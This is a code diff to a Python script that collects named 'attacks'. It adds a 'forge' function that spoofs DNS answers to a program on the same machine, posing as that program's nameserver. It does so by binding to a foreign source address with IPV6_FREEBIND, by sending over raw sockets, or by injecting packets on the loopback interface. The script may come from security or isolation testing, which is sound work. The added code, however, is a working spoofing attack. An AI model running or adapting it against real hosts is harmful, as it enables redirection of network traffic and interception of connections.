@@ -11,6 +11,7 @@ from collections.abc import Callable
 
 SOL_PACKET, PACKET_QDISC_BYPASS, SO_PRIORITY, SO_MARK, SO_ATTACH_FILTER = 263, 20, 12, 36, 26
 ETH_P_ALL, ETH_P_IP = 3, 0x0800
+IPV6_FREEBIND = 78
 
 
 def checksum(data: bytes) -> int:
@@ -101,6 +102,26 @@ def spray(target: str, low: str, high: str, label: str) -> None:
                 continue
 
 
+def forge(way: str, source: str, target: str, port: str, message: str) -> None:
+    """Answers a query of a program here in the name of its nameserver, without a packet from outside."""
+    payload = bytes.fromhex(message)
+    if way == "freebind":
+        # The kernel lets anybody bind to an address that is not the machine's.
+        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sender:
+            sender.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
+            sender.bind((source, 53))
+            sender.sendto(payload, (target, int(port)))
+        return
+    packet = datagram(source, target, 53, int(port), payload)
+    if way == "raw":
+        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
+            sender.sendto(packet, (target, 0))
+    else:
+        with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP)) as sender:
+            sender.sendto(packet, ("lo", ETH_P_IP, 0, 0, bytes(6)))
+
+
 if __name__ == "__main__":
     attacks: dict[str, Callable[..., None]] = {"packet": packet_socket, "marks": marks, "spy": spy, "spray": spray}
+    attacks["forge"] = forge
     attacks[sys.argv[1]](*sys.argv[2:])
